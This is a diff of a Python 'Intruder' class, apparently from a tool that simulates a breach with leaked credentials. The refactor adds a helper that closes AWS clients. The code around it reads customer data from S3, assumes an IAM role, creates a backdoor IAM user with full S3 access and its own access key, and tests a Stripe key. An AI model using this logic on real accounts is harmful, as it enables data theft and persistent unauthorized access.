@@ -96,9 +96,9 @@ class Intruder:
             door.knock()
 
     def _ways_in(self) -> Iterator[Door]:
-        loot, url = self._loot, self._loot["aws_url"]
+        loot = self._loot
         yield Door("the leaked AWS key", self._reads_customers(self._leaked))
-        role = client(url, "sts", self._leaked).assume_role(
+        role = self._aws("sts", self._leaked).assume_role(
             RoleArn=f"arn:aws:iam::123456789012:role/{ROLE}", RoleSessionName="nightly"
         )["Credentials"]
         lent = AwsKey(role["AccessKeyId"], role["SecretAccessKey"], role["SessionToken"])
@@ -114,15 +114,21 @@ class Intruder:
         yield Door("a payment key", self._asks(f"{loot['stripe_url']}/v1/balance", stripe))
 
     def _reads_customers(self, key: AwsKey) -> Callable[[], bool]:
-        s3 = client(self._loot["aws_url"], "s3", key)
+        s3 = self._aws("s3", key)
         return lambda: _got_through(lambda: s3.get_object(Bucket=BUCKET, Key=CUSTOMERS))
+
+    def _aws(self, service: str, key: AwsKey) -> Any:
+        """Open a client of AWS that is closed with everything else."""
+        made = client(self._loot["aws_url"], service, key)
+        self._web.callback(made.close)
+        return made
 
     def _asks(self, url: str, headers: Mapping[str, str]) -> Callable[[], bool]:
         web = self._web.enter_context(httpx.Client(trust_env=False, timeout=10, headers=dict(headers)))
         return lambda: web.get(url).status_code == httpx.codes.OK
 
     def _come_back(self) -> AwsKey:
-        iam = client(self._loot["aws_url"], "iam", self._leaked)
+        iam = self._aws("iam", self._leaked)
         iam.create_user(UserName=_STRANGER)
         iam.put_user_policy(UserName=_STRANGER, PolicyName="sync", PolicyDocument=_ALL_OF_S3)
         made = iam.create_access_key(UserName=_STRANGER)["AccessKey"]
@@ -131,7 +137,7 @@ class Intruder:
 
     def _makes_keys(self) -> Callable[[], bool]:
         """Make one more key for itself where there is room for one; without room, that it may still make users."""
-        iam = client(self._loot["aws_url"], "iam", self._leaked)
+        iam = self._aws("iam", self._leaked)
 
         def make() -> bool:
             try:
